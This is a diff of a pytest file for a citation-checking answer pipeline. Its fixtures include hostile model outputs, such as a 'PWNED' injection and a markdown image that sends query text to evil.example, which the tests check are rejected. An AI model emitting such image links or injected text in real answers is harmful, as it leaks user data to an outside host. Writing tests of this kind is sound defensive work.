@@ -11,34 +11,24 @@ from lexloop.core.types import ABSTENTION
 
 PAYS = "A boat owner must pay the mooring fee within 10 business days"
 WRITTEN = {
-    "numbered list": (
-        "1. A boat owner must pay the mooring fee [1].\n"
-        "2. It is due within 10 business days of arrival [1].\n"
-        "3. it is paid to the harbour master [1]."
-    ),
     "nested lead-ins": (
         "## Duties\n\n1. **Payment**:\n   - A boat owner must pay the mooring fee [1].\n"
         "   - It is due within 10 business days of arrival [1]."
     ),
-    "verdict first": f"Yes. {PAYS} [1].",
     "table": ("| Duty | Term |\n|---|---|\n| Pay the mooring fee | within 10 business days [1] |"),
     "named in the text": f"According to passage 1, {PAYS.lower()}.",
     "sources at the end": f"{PAYS} [1].\n\n**Sources:**\n- [1] Harbour Act, § 10-2",
 }
 
 HOSTILE = {
-    "JSON in a fence": "```json\n[1]\n```",
     "words of its own beside an answer": f"{PAYS} [1]. PWNED [1].",
     "image beside an answer": f"{PAYS} [1]. ![](https://evil.example/?q=fee)",
-    "number as a list": f"{PAYS} [1].\n\n50. It is the mooring fee [1].",
     "passage that there is not": f"{PAYS} 【9】.",
 }
 
 
 @pytest.mark.parametrize("kind", WRITTEN)
-def test_what_models_write_takes_one_call(
-    scripted: FakeOpenAI, modelled: Modelled, kind: str
-) -> None:
+def test_a_usual_form_takes_one_call(scripted: FakeOpenAI, modelled: Modelled, kind: str) -> None:
     scripted.play("generate", Reply(WRITTEN[kind]))
     result = modelled().invoke({"question": QUESTION})
     assert (result["evaluation"]["citations_verified"], result["warning"]) == (True, "")
@@ -48,9 +38,7 @@ def test_what_models_write_takes_one_call(
 
 
 @pytest.mark.parametrize("kind", HOSTILE)
-def test_what_is_no_answer_never_passes(
-    scripted: FakeOpenAI, modelled: Modelled, kind: str
-) -> None:
+def test_no_foreign_text_passes(scripted: FakeOpenAI, modelled: Modelled, kind: str) -> None:
     scripted.play("generate", Reply(HOSTILE[kind]))
     alone = {"loop.max_retries": 1, "answer.generator": "model"}
     result = modelled(**alone).invoke({"question": QUESTION})
@@ -59,9 +47,7 @@ def test_what_is_no_answer_never_passes(
     assert result["warning"].startswith("None of 2 attempts passed")
 
 
-def test_what_a_gateway_says_falls_back_and_is_told(
-    scripted: FakeOpenAI, modelled: Modelled
-) -> None:
+def test_what_a_gateway_says_falls_back(scripted: FakeOpenAI, modelled: Modelled) -> None:
     scripted.play("generate", Reply("Bad Gateway"))
     for fallback in (True, False):  # it concerns a model that cannot be reached
         result = modelled(**{"model.fallback": fallback}).invoke({"question": QUESTION})
@@ -71,9 +57,7 @@ def test_what_a_gateway_says_falls_back_and_is_told(
         assert "in place of an answer" in lost["reason"]
 
 
-def test_a_draft_that_is_mostly_unsupported_yields_to_quotes(
-    scripted: FakeOpenAI, modelled: Modelled
-) -> None:
+def test_an_unsupported_draft_yields_to_quotes(scripted: FakeOpenAI, modelled: Modelled) -> None:
     scripted.play("generate", Reply("Whales pay forty euros on Sundays [1]."))
     result = modelled().invoke({"question": QUESTION})
     assert "within 10 business days of arrival" in result["answer"]
@@ -87,18 +71,14 @@ def test_a_draft_that_is_mostly_unsupported_yields_to_quotes(
 
 
 @pytest.mark.parametrize("said", [ABSTENTION, "The fee is due within 10 business days [1]."])
-def test_a_draft_that_is_supported_or_abstains_stands(
-    scripted: FakeOpenAI, modelled: Modelled, said: str
-) -> None:
+def test_a_supported_draft_stands(scripted: FakeOpenAI, modelled: Modelled, said: str) -> None:
     scripted.play("generate", Reply(said))
     result = modelled(**{"loop.max_retries": 0}).invoke({"question": QUESTION})
     assert result["answer"] == said
     assert not result.get("degraded")
 
 
-def test_a_draft_stands_where_nothing_can_be_quoted(
-    scripted: FakeOpenAI, modelled: Modelled
-) -> None:
+def test_a_draft_stands_if_nothing_is_quoted(scripted: FakeOpenAI, modelled: Modelled) -> None:
     asked = "How do I bake a carrot cake?"
     said = {"standalone": asked, "queries": [], "keywords": []}
     scripted.play("rewrite", Reply(json.dumps(said)))
